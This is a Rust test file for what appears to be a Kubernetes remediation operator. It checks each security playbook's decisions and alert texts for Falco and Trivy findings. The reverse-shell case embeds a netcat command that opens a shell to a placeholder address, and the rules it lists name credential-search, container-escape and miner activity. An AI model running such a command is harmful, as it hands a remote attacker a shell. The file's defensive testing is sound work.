//! Finding and cluster in, decisions out, for each playbook.

use std::collections::BTreeMap;

use quell_crds::conditions::Reason;
use quell_crds::v1alpha1::Severity;
use quell_playbooks::{Outcome, World};

use super::worlds::{
    falco, image, in_kube_system, of_a, of_an_image, on_a_node, secret, stratum, trivy, unfixable, with,
};
use crate::support::receipt;

pub struct Case {
    pub name: &'static str,
    /// Rules of Falco that the playbook names, and the severity that they have.
    pub rules: &'static [&'static str],
    pub severity: Severity,
    pub scenes: &'static [Scene],
    pub differs: &'static [fn() -> World],
}

pub struct Scene {
    pub finding: fn() -> World,
    pub outcomes: fn() -> Vec<(&'static str, Vec<Outcome>)>,
    /// Every decision, to the end.
    pub log: &'static [&'static str],
    /// What a step was given must hold this.
    pub given: &'static [(&'static str, &'static str)],
}

fn ok(message: &str) -> Vec<Outcome> {
    vec![Outcome::Done { message: message.into(), outputs: BTreeMap::new(), receipt: Some(receipt("web-1")) }]
}

fn no(reason: Reason, message: &str) -> Vec<Outcome> {
    let (message, outputs) = (message.to_owned(), BTreeMap::new());
    vec![Outcome::Failed { reason, message, transient: false, outputs, receipt: None }]
}

fn built() -> Vec<Outcome> {
    let outputs = [("image", "registry.example/web:4-quell"), ("digest", "sha256:5555")];
    let outputs = outputs.into_iter().map(|(key, value)| (key.to_owned(), value.to_owned())).collect();
    vec![Outcome::Done { message: "built".into(), outputs, receipt: None }]
}

fn contained() -> Vec<(&'static str, Vec<Outcome>)> {
    vec![("contain", ok("pod shop/web-1 is cut off"))]
}

fn not_contained() -> Vec<(&'static str, Vec<Outcome>)> {
    vec![("contain", no(Reason::TargetUnsupported, "pod shop/web-1 uses the network of its node"))]
}

const CONTAINED: &[&str] = &["perform contain", "begin tell", "perform tell", "enter Succeeded Succeeded"];
const NOT_CONTAINED: &[&str] = &["perform contain", "begin tell", "perform tell", "enter Failed StepFailed"];
const GOOD_NEWS: (&str, &str) = ("tell", "CONTAINED: pod shop/web-1 is cut off");
const BAD_NEWS: (&str, &str) = ("tell", "NOT CONTAINED, ACT NOW: pod shop/web-1 uses the network of its node");
const DETACHED: (&str, &str) = ("contain", r#"{"quarantine":{"detach":true}}"#);
const WHERE: (&str, &str) = ("tell", "pod shop/web-1 (Deployment web)");
const WAY_BACK: (&str, &str) = ("tell", "kubectl patch remediation -n shop run --type merge");
const BUILT: &[&str] =
    &["begin build", "perform build", "perform deploy", "begin tell", "perform tell", "enter Succeeded Succeeded"];
const NOT_BUILT: &[&str] = &[
    "begin build",
    "perform build",
    "skip deploy ConditionNotMet",
    "begin tell",
    "perform tell",
    "enter Failed StepFailed",
];

/// What a playbook that contains and tells does when that goes well, and when it doesn't.
macro_rules! contain_and_tell {
    ($finding:expr, $($given:expr),*) => {
        &[
            Scene { finding: $finding, outcomes: contained, log: CONTAINED,
                given: &[DETACHED, GOOD_NEWS, WHERE, WAY_BACK, $($given),*] },
            Scene { finding: $finding, outcomes: not_contained, log: NOT_CONTAINED, given: &[DETACHED, BAD_NEWS] },
        ]
    };
}

const REVERSE_SHELL: &[&str] =
    &["Netcat Remote Code Execution in Container", "Redirect STDOUT/STDIN to Network Connection in Container"];

pub const CASES: &[Case] = &[
    Case {
        name: "contain-container-escape",
        rules: &[
            "Detect release_agent File Container Escapes",
            "Debugfs Launched in Privileged Container",
            "Linux Kernel Module Injection Detected",
        ],
        severity: Severity::Medium,
        scenes: contain_and_tell!(
            || falco("falco", "Detect release_agent File Container Escapes", Severity::Critical),
            ("tell", "kubectl cordon node-7")
        ),
        differs: &[
            || falco("falco", "Terminal shell in container", Severity::Low),
            || in_kube_system(falco("falco", "Linux Kernel Module Injection Detected", Severity::Medium)),
            || on_a_node(falco("falco", "Linux Kernel Module Injection Detected", Severity::Medium)),
        ],
    },
    Case {
        name: "contain-credential-theft",
        rules: &[
            "Read sensitive file untrusted",
            "Read sensitive file trusted after startup",
            "Directory traversal monitored file read",
            "Search Private Keys or Passwords",
            "Find AWS Credentials",
        ],
        severity: Severity::Medium,
        scenes: contain_and_tell!(
            || falco("falco", "Find AWS Credentials", Severity::Medium),
            ("tell", "service account shop/web")
        ),
        differs: &[
            || falco("falco", "Clear Log Activities", Severity::Medium),
            || on_a_node(falco("falco", "Read sensitive file untrusted", Severity::Medium)),
        ],
    },
    Case {
        name: "contain-cryptominer",
        rules: &[
            "Detect crypto miners using the Stratum protocol",
            "Detect outbound connections to common miner pool ports",
        ],
        severity: Severity::Critical,
        scenes: contain_and_tell!(stratum, ("tell", "kubectl delete pod -n shop web-1"), ("tell", "pool.example:3333")),
        differs: &[
            || falco("falco", "Drop and execute new binary in container", Severity::Critical),
            || in_kube_system(stratum()),
        ],
    },
    Case {
        name: "contain-drifted-binary",
        rules: &[
            "Drop and execute new binary in container",
            "Fileless execution via memfd_create",
            "Execution from /dev/shm",
        ],
        severity: Severity::Medium,
        scenes: contain_and_tell!(
            || falco("sidekick", "Drop and execute new binary in container", Severity::Critical),
            ("tell", "registry.example/web:4 sha256:4444")
        ),
        differs: &[
            || falco("falco", "Run shell untrusted", Severity::Low),
            || {
                with(falco("kubearmor", "Execution from /dev/shm", Severity::Critical), |world| {
                    world.finding.spec.tool = "kubearmor".into();
                })
            },
        ],
    },
    Case {
        name: "contain-reverse-shell",
        rules: REVERSE_SHELL,
        severity: Severity::Low,
        scenes: contain_and_tell!(
            || falco("falco", REVERSE_SHELL[0], Severity::Medium),
            ("tell", "nc -e /bin/sh 198.51.100.7 4444"),
            ("tell", "node-7")
        ),
        differs: &[
            || falco("falco", "Terminal shell in container", Severity::Low),
            || in_kube_system(falco("falco", REVERSE_SHELL[0], Severity::Medium)),
            || on_a_node(falco("falco", REVERSE_SHELL[1], Severity::Low)),
            || trivy("trivy", Severity::Critical),
        ],
    },
    Case {
        name: "contain-terminal-shell",
        rules: &["Terminal shell in container"],
        severity: Severity::Low,
        scenes: &[Scene {
            finding: || falco("falco", "Terminal shell in container", Severity::Low),
            outcomes: contained,
            log: &[
                "begin warn",
                "perform warn",
                "perform veto",
                "perform contain",
                "begin tell",
                "perform tell",
                "enter Succeeded Succeeded",
            ],
            given: &[
                ("warn", "In 15 minutes the pod will be cut off"),
                ("warn", "kubectl patch remediation -n shop run"),
                ("veto", r#"{"wait":{"for":"900s"}}"#),
                DETACHED,
                GOOD_NEWS,
            ],
        }],
        differs: &[
            || falco("falco", "Run shell untrusted", Severity::Low),
            || in_kube_system(falco("falco", "Terminal shell in container", Severity::Low)),
        ],
    },
    Case {
        name: "deny-critical-image",
        rules: &[],
        severity: Severity::Critical,
        scenes: &[
            Scene {
                finding: || of_an_image(trivy("trivy", Severity::Critical)),
                outcomes: || vec![("deny", ok("image registry.example/web:4 is refused in every namespace"))],
                log: &["perform deny", "begin tell", "perform tell", "enter Succeeded Succeeded"],
                given: &[
                    ("deny", r#"{"denyImage":{"by":"Image","namespaces":"All","for":"604800s"}}"#),
                    ("tell", "REFUSED: image registry.example/web:4 is refused in every namespace"),
                    ("tell", "Image: registry.example/web:4 sha256:4444"),
                    ("tell", "kubectl patch remediation -n quell run --type merge"),
                ],
            },
            Scene {
                finding: || of_an_image(trivy("trivy", Severity::Critical)),
                outcomes: || vec![("deny", no(Reason::Forbidden, "it may not"))],
                log: &["perform deny", "begin tell", "perform tell", "enter Failed StepFailed"],
                given: &[("tell", "NOT REFUSED: it may not")],
            },
        ],
        differs: &[
            || trivy("trivy", Severity::Critical),
            || of_an_image(trivy("trivy", Severity::High)),
            || unfixable(of_an_image(trivy("trivy", Severity::Critical))),
            || falco("falco", "Terminal shell in container", Severity::Critical),
        ],
    },
    Case {
        name: "quarantine-and-rollback",
        rules: &[],
        severity: Severity::Critical,
        scenes: &[
            Scene {
                finding: || falco("falco", "Drop and execute new binary in container", Severity::Critical),
                outcomes: || [contained(), vec![("roll-back", ok("went back from revision 4 to revision 3"))]].concat(),
                log: &[
                    "perform contain",
                    "perform roll-back",
                    "begin tell",
                    "perform tell",
                    "enter Succeeded Succeeded",
                ],
                given: &[
                    DETACHED,
                    ("roll-back", r#"{"rollback":{"to":"LastUnaffected"}}"#),
                    GOOD_NEWS,
                    ("tell", "ROLLED BACK: went back from revision 4 to revision 3"),
                ],
            },
            Scene {
                finding: || falco("falco", "Drop and execute new binary in container", Severity::Critical),
                outcomes: || {
                    [contained(), vec![("roll-back", no(Reason::NoUnaffectedRevision, "none is left"))]].concat()
                },
                log: &["perform contain", "perform roll-back", "begin tell", "perform tell", "enter Failed StepFailed"],
                given: &[GOOD_NEWS, ("tell", "STILL ON THE SAME RELEASE: none is left")],
            },
        ],
        differs: &[
            || falco("falco", "Terminal shell in container", Severity::Low),
            || of_a("StatefulSet", falco("falco", "Drop and execute new binary in container", Severity::Critical)),
            || trivy("trivy", Severity::Critical),
        ],
    },
    Case {
        name: "rebuild-by-pipeline",
        rules: &[],
        severity: Severity::Critical,
        scenes: &[
            Scene {
                finding: || trivy("trivy-operator", Severity::Critical),
                outcomes: || vec![("build", built()), ("deploy", ok("rolled out"))],
                log: BUILT,
                given: &[
                    ("build", r#""image":"registry.example/web:4""#),
                    ("build", r#""finding":"shop/found-1""#),
                    ("deploy", "registry.example/web:4-quell@sha256:5555"),
                    ("tell", "REBUILT AND ROLLED OUT"),
                ],
            },
            Scene {
                finding: || trivy("trivy", Severity::Critical),
                outcomes: || vec![("build", no(Reason::BuildFailed, "the pipeline failed"))],
                log: NOT_BUILT,
                given: &[("tell", "STILL VULNERABLE"), ("tell", "Pipeline Failed: the pipeline failed")],
            },
        ],
        differs: &[
            || trivy("trivy", Severity::High),
            || unfixable(trivy("trivy", Severity::Critical)),
            || image("registry.example/web:4-quell", trivy("trivy", Severity::Critical)),
            || of_a("CronJob", trivy("trivy", Severity::Critical)),
        ],
    },
    Case {
        name: "rebuild-fixable-cve",
        rules: &[],
        severity: Severity::High,
        scenes: &[
            Scene {
                finding: || trivy("trivy", Severity::High),
                outcomes: || vec![("build", built()), ("deploy", ok("rolled out"))],
                log: BUILT,
                given: &[
                    ("build", r#"{"name":"IMAGE","value":"registry.example/web:4"}"#),
                    ("build", r#"{"name":"DIGEST","value":"sha256:4444"}"#),
                    ("deploy", "registry.example/web:4-quell@sha256:5555"),
                    ("tell", "Roll-out Succeeded: rolled out"),
                ],
            },
            Scene {
                finding: || trivy("trivy-operator", Severity::Critical),
                outcomes: || vec![("build", no(Reason::BuildFailed, "Job shop/build failed"))],
                log: NOT_BUILT,
                given: &[("tell", "STILL VULNERABLE"), ("tell", "Build Failed: Job shop/build failed")],
            },
        ],
        differs: &[
            || trivy("trivy", Severity::Medium),
            || unfixable(trivy("trivy", Severity::Critical)),
            || image("registry.example/web:4-quell", trivy("trivy", Severity::High)),
            || image("", trivy("trivy", Severity::High)),
            || of_a("Pod", trivy("trivy", Severity::High)),
        ],
    },
    Case {
        name: "rollback-critical-cve",
        rules: &[],
        severity: Severity::Critical,
        scenes: &[
            Scene {
                finding: || trivy("trivy-operator", Severity::Critical),
                outcomes: || vec![("roll-back", ok("went back from revision 4 to revision 3"))],
                log: &["perform roll-back", "begin tell", "perform tell", "enter Succeeded Succeeded"],
                given: &[
                    ("roll-back", r#"{"rollback":{"to":"LastUnaffected"}}"#),
                    ("tell", "1 critical vulnerabilities in Deployment shop/web, 1 of all have a fix."),
                    ("tell", "ROLLED BACK: went back from revision 4 to revision 3"),
                    WAY_BACK,
                ],
            },
            Scene {
                finding: || trivy("trivy", Severity::Critical),
                outcomes: || vec![("roll-back", no(Reason::NoUnaffectedRevision, "every revision is affected"))],
                log: &["perform roll-back", "begin tell", "perform tell", "enter Failed StepFailed"],
                given: &[("tell", "NOT ROLLED BACK: every revision is affected")],
            },
        ],
        differs: &[
            || trivy("trivy", Severity::High),
            || unfixable(trivy("trivy", Severity::Critical)),
            || of_a("DaemonSet", trivy("trivy", Severity::Critical)),
            || falco("falco", "Fileless execution via memfd_create", Severity::Critical),
        ],
    },
    Case {
        name: "tell-on-exposed-secret",
        rules: &[],
        severity: Severity::High,
        scenes: &[
            Scene {
                finding: || secret(Severity::High),
                outcomes: Vec::new,
                log: &["begin tell", "perform tell", "enter Succeeded Succeeded"],
                given: &[("tell", "aws-access-key-id in app/.env:3"), ("tell", "Workload: Deployment shop/web")],
            },
            Scene {
                finding: || with(secret(Severity::Critical), |world| world.workload = None),
                outcomes: Vec::new,
                log: &["begin tell", "perform tell", "enter Succeeded Succeeded"],
                given: &[("tell", "Workload: not known")],
            },
        ],
        differs: &[|| secret(Severity::Medium), || trivy("trivy", Severity::Critical)],
    },
    Case {
        name: "tell-on-k8s-api-contact",
        rules: &["Contact K8S API Server From Container"],
        severity: Severity::Low,
        scenes: &[Scene {
            finding: || falco("falco", "Contact K8S API Server From Container", Severity::Low),
            outcomes: Vec::new,
            log: &["begin tell", "perform tell", "enter Succeeded Succeeded"],
            given: &[WHERE, ("tell", "--as system:serviceaccount:shop:web -n shop")],
        }],
        differs: &[
            || falco("falco", "Terminal shell in container", Severity::Low),
            || in_kube_system(falco("falco", "Contact K8S API Server From Container", Severity::Low)),
        ],
    },
];
